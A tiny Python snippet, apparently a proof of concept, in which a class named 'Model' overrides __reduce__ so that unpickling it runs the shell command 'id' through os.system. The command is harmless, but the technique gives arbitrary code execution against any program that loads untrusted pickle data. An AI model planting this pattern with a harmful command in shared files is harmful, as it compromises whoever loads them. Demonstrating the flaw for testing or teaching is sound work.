import os
class Model:
    def __reduce__(self):
        return os.system, ("id",)
